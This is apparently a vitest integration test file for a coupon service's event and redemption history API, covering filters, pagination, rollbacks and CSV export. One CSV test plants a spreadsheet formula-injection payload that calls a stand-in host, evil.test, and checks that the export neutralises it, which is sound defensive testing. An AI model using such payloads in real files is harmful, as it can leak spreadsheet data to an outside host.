import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { selectModules } from '../../src/modules/index.ts';
import { startTestApp, type TestApp, type TestUser } from '../support/app.ts';
import { command, insertBook, type TestBook } from '../support/nodes.ts';

let t: TestApp;
let admin: TestUser;
let user: TestUser;

beforeAll(async () => {
  t = await startTestApp({
    modules: selectModules(['coupons', 'history']),
    config: { rateLimitScale: 10_000 },
  });
  [admin, user] = await Promise.all([t.asAdmin(), t.asUser()]);
});
afterAll(() => t?.close());

interface Row {
  id: number;
  code: string;
  type: string;
  [field: string]: unknown;
}

async function get(url: string, headers: object = {}, as: TestUser = admin) {
  const answer = await t.app.inject({ url, headers: { ...as.headers, ...headers } });
  return { status: answer.statusCode, headers: answer.headers, text: answer.body };
}

const list = async (url: string): Promise<{ items: Row[]; nextCursor: string | null }> =>
  JSON.parse((await get(url)).text);

/** All pages; `between` runs after each. */
async function walk(url: string, between: () => Promise<unknown> = async () => {}): Promise<Row[]> {
  const rows: Row[] = [];
  for (let cursor: string | null = ''; cursor !== null;) {
    const page = await list(`${url}${cursor && `&cursor=${cursor}`}`);
    rows.push(...page.items);
    cursor = page.nextCursor;
    await between();
  }
  return rows;
}

async function spend({ codes }: TestBook, count: number, by = user): Promise<void> {
  for (const code of codes.slice(0, count)) {
    for (const name of ['assign', 'lock', 'redeem'] as const) {
      expect((await command(t, by, name, code)).status).toBe(200);
    }
  }
}

/** Plain events, as a transition writes them. */
const insertEvents = (db: { bookId: string; count: number; data?: string }) => sql`
  INSERT INTO events (type, book_id, coupon_id, user_id, actor_id, data, occurred_at)
  SELECT 'coupon.locked', ${db.bookId}, 1, ${user.id}, ${user.id}, ${db.data ?? null}::jsonb, clock_timestamp()
  FROM generate_series(1, ${db.count})`;

describe('GET /events', () => {
  test('tells what happened, newest first, with names for the ids', async () => {
    const book = await insertBook(t.db, 1);
    await spend(book, 1);
    const { items, nextCursor } = await list(`/api/v1/events?bookId=${book.id}`);
    expect(nextCursor).toBeNull();
    expect(items.map(({ type }) => type)).toEqual(['coupon.redeemed', 'coupon.locked', 'coupon.assigned']);
    expect(items[0]).toMatchObject({
      code: book.codes[0],
      bookId: book.id,
      bookName: expect.any(String),
      userId: user.id,
      userEmail: user.email,
      actorId: user.id,
      actorEmail: user.email,
      jobId: null,
      data: { redemptionCount: 1, state: 'REDEEMED' },
    });
  });

  test('is for administrators', async () => {
    for (const url of ['/api/v1/events', '/api/v1/redemptions']) {
      expect((await get(url, {}, user)).status).toBe(403);
      expect((await t.app.inject({ url })).statusCode).toBe(401);
    }
  });

  test('filters by user, actor, type, code and time, and by all of them at once', async () => {
    const book = await insertBook(t.db, 3);
    const other = await t.asUser();
    const [first, second, third] = book.codes as [string, string, string];
    await command(t, user, 'assign', first);
    await command(t, admin, 'assign', second, { userId: other.id });
    await command(t, other, 'lock', second);
    await command(t, other, 'assign', third);
    const seen = async (query: string) =>
      (await list(`/api/v1/events?bookId=${book.id}&${query}`)).items.map(({ code, type }) => [code, type]);

    const [assigned, locked] = ['coupon.assigned', 'coupon.locked'];
    const others = [
      [third, assigned],
      [second, locked],
      [second, assigned],
    ];
    expect(await seen(`userId=${other.id}`)).toEqual(others);
    expect(await seen(`actorId=${admin.id}`)).toEqual([[second, assigned]]);
    expect(await seen(`actorId=${other.id}`)).toEqual([
      [third, assigned],
      [second, locked],
    ]);
    expect(await seen(`type=${locked}`)).toEqual([[second, locked]]);
    expect(await seen(`type=${locked}&type=coupon.redeemed`)).toEqual([[second, locked]]);
    expect(await seen(`code=${second.toLowerCase()}`)).toEqual(others.slice(1));
    expect(await seen(`code=${second.slice(0, -1)}`)).toHaveLength(4);
    expect(await seen('code=NOTHING-BEGINS-SO')).toEqual([]);
    expect(await seen('code=%25')).toEqual([]);

    const { items } = await list(`/api/v1/events?bookId=${book.id}`);
    const at = items[1]!.occurredAt as string;
    const since = items.filter(({ occurredAt }) => (occurredAt as string) >= at);
    expect(await seen(`from=${at}`)).toHaveLength(since.length);
    expect(await seen(`to=${at}`)).toHaveLength(items.length - since.length);
    expect(
      await seen(
        `userId=${other.id}&actorId=${admin.id}&type=${assigned}&code=${second}&from=${items.at(-1)!.occurredAt as string}`,
      ),
    ).toEqual([[second, assigned]]);
  });

  test('finds a code also where its beginning is that of more coupons than can be looked up one by one', async () => {
    const book = await insertBook(t.db, 5_001);
    await spend(book, 2);
    const beginning = book.codes[0]!.replace(/-\d+$/, '-');
    expect((await list(`/api/v1/events?code=${beginning}`)).items).toHaveLength(6);
    expect((await list(`/api/v1/redemptions?code=${beginning}`)).items).toHaveLength(2);
  });

  test.each([
    'type=coupon.lost',
    'from=yesterday',
    'from=2026-02-30T00:00:00Z',
    'cursor=abc',
    'cursor=WyIxIiwxXQ',
    'limit=0',
    'user=me',
    'bookId=1',
    'bom=please',
  ])('refuses ?%s', async (query) => {
    for (const url of ['/api/v1/events', '/api/v1/redemptions']) {
      expect(JSON.parse((await get(`${url}?${query}`)).text)).toMatchObject({
        status: 400,
        code: 'invalid-request',
      });
    }
  });
});

describe('turning the pages', () => {
  test('shows each event of the first moment once while others are added all the time', async () => {
    const { id: bookId } = await insertBook(t.db, 0);
    await insertEvents({ bookId, count: 100 }).execute(t.db);
    const before = await walk(`/api/v1/events?bookId=${bookId}&limit=200`);
    const rows = await walk(`/api/v1/events?bookId=${bookId}&limit=7`, () =>
      insertEvents({ bookId, count: 20 }).execute(t.db),
    );
    expect(rows.map(({ id }) => id)).toEqual(before.map(({ id }) => id));
  });

  test('is not confused by a transaction that commits late, with lower ids and an earlier time', async () => {
    const { id: bookId } = await insertBook(t.db, 0);
    const late = new pg.Client(t.databaseUrl);
    await late.connect();
    const insert = `INSERT INTO events (type, book_id, coupon_id, user_id, occurred_at)
                    SELECT 'coupon.locked', '${bookId}', 1, '${user.id}', clock_timestamp() FROM generate_series(1, 10)`;
    await insertEvents({ bookId, count: 10 }).execute(t.db);
    await late.query('BEGIN');
    await late.query(insert);
    await insertEvents({ bookId, count: 10 }).execute(t.db);

    let pages = 0;
    const rows = await walk(`/api/v1/events?bookId=${bookId}&limit=4`, async () => {
      pages += 1;
      if (pages === 1) await late.query('COMMIT');
    });
    expect(new Set(rows.map(({ id }) => id)).size).toBe(20);
    expect(rows).toHaveLength(20);
    await late.end();
    expect(await walk(`/api/v1/events?bookId=${bookId}&limit=4`)).toHaveLength(30);
  });

  test('is the same for redemptions', async () => {
    const book = await insertBook(t.db, 12);
    await spend(book, 6);
    let next = 6;
    const url = `/api/v1/redemptions?bookId=${book.id}`;
    const rows = await walk(`${url}&limit=2`, () => spend({ ...book, codes: book.codes.slice(next++) }, 1));
    expect(rows.map(({ code }) => code)).toEqual(book.codes.slice(0, 6).reverse());
    expect(rows[0]).toMatchObject({
      bookId: book.id,
      userEmail: user.email,
      redemptionNumber: 1,
      metadata: {},
    });
  });
});

describe('a rollback', () => {
  test('is a row of its own that names what it takes back, and is named by it', async () => {
    const book = await insertBook(t.db, 1);
    await spend(book, 1);
    const url = `/api/v1/redemptions?bookId=${book.id}`;
    const [made] = (await list(url)).items;
    const { statusCode } = await t.app.inject({
      method: 'POST',
      url: `/api/v1/redemptions/${made!.id}/rollback`,
      headers: admin.headers,
      payload: { reason: 'returned' },
    });
    expect(statusCode).toBe(200);
    const { items } = await list(url);
    expect(items).toMatchObject([
      { rollbackOf: made!.id, reason: 'returned', actorId: admin.id, userId: user.id, rolledBackBy: null },
      { id: made!.id, rollbackOf: null, reason: null, rolledBackBy: items[0]!.id },
    ]);
  });
});

describe('as CSV', () => {
  const csv = { accept: 'text/csv' };

  test('is the whole filter as a file, a line per row, with names for columns', async () => {
    const book = await insertBook(t.db, 3);
    await spend(book, 3);
    const answer = await get(`/api/v1/redemptions?bookId=${book.id}&limit=1`, csv);
    expect(answer.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="redemptions.csv"',
      'cache-control': 'no-store',
    });
    const [head, ...lines] = answer.text.split('\r\n');
    expect(head).toBe(
      'id,code,bookId,bookName,userId,userEmail,actorId,actorEmail,redeemedAt,redemptionNumber,rollbackOf,reason,rolledBackBy,metadata',
    );
    expect(lines.filter(Boolean).map((line) => line.split(',')[1])).toEqual([...book.codes].reverse());
    expect((await get(`/api/v1/events?bookId=${book.id}`, csv)).text.split('\r\n')).toHaveLength(9 + 2);
  });

  test('begins with a byte order mark when that is asked for', async () => {
    const { id } = await insertBook(t.db, 0);
    for (const list of ['events', 'redemptions']) {
      expect((await get(`/api/v1/${list}?bookId=${id}`, csv)).text.codePointAt(0)).not.toBe(0xfeff);
      expect((await get(`/api/v1/${list}?bookId=${id}&bom=true`, csv)).text.codePointAt(0)).toBe(0xfeff);
    }
  });

  test('has no cell that a spreadsheet would run', async () => {
    const book = await insertBook(t.db, 0);
    await sql`UPDATE books SET name = '=HYPERLINK("http://evil.test?"&A1)' WHERE id = ${book.id}`.execute(
      t.db,
    );
    const code = `-${randomUUID()}`.toUpperCase();
    await sql`INSERT INTO coupons (book_id, code) VALUES (${book.id}, ${code})`.execute(t.db);
    await spend({ ...book, codes: [code] }, 1);
    for (const list of ['events', 'redemptions']) {
      const { text } = await get(`/api/v1/${list}?bookId=${book.id}`, csv);
      expect(text).toContain(`,'${code},`);
      expect(text).toContain(`"'=HYPERLINK(`);
      const cells = (parse(text) as string[][]).flat();
      expect(cells.filter((cell) => /^[=+@\t\r-]/.test(cell))).toEqual([]);
    }
  });

  test('reads part by part: more rows than one part, each once, while others are added', async () => {
    const { id: bookId } = await insertBook(t.db, 0);
    await insertEvents({ bookId, count: 2_500, data: '{"n": 1}' }).execute(t.db);
    const [answer] = await Promise.all([
      get(`/api/v1/events?bookId=${bookId}`, csv),
      insertEvents({ bookId, count: 500 }).execute(t.db),
    ]);
    const ids = answer.text
      .split('\r\n')
      .slice(1, -1)
      .map((line) => line.split(',')[0]);
    expect([2_500, 3_000]).toContain(ids.length);
    expect(new Set(ids).size).toBe(ids.length);
  });
});

describe('the beginning of very many codes', () => {
  test('is refused, with what to do, when it cannot be searched in time, also as a file', async () => {
    const hurried = await startTestApp({
      databaseUrl: t.databaseUrl,
      modules: selectModules(['coupons', 'history']),
      // Not so short that a busy machine takes as long for what does not wait.
      config: { statementTimeoutMs: 1_500 },
    });
    const blocker = new pg.Client(t.databaseUrl);
    try {
      const { codes } = await insertBook(t.db, 5_001);
      const prefix = codes[0]!.slice(0, 18);
      await blocker.connect();
      await blocker.query('BEGIN; LOCK TABLE events, redemption_history');
      for (const path of ['/api/v1/events', '/api/v1/redemptions'])
        for (const accept of ['application/json', 'text/csv']) {
          const ask = (url: string) => hurried.app.inject({ url, headers: { ...admin.headers, accept } });
          const refused = await ask(`${path}?code=${prefix}`);
          expect(refused.statusCode).toBe(400);
          expect(refused.json().errors).toMatchObject([
            { in: 'query', pointer: '/code', reason: 'search-too-wide' },
          ]);
          expect((await ask(path)).statusCode).toBe(503);
        }
    } finally {
      await blocker.end();
      await hurried.close();
    }
  });
});
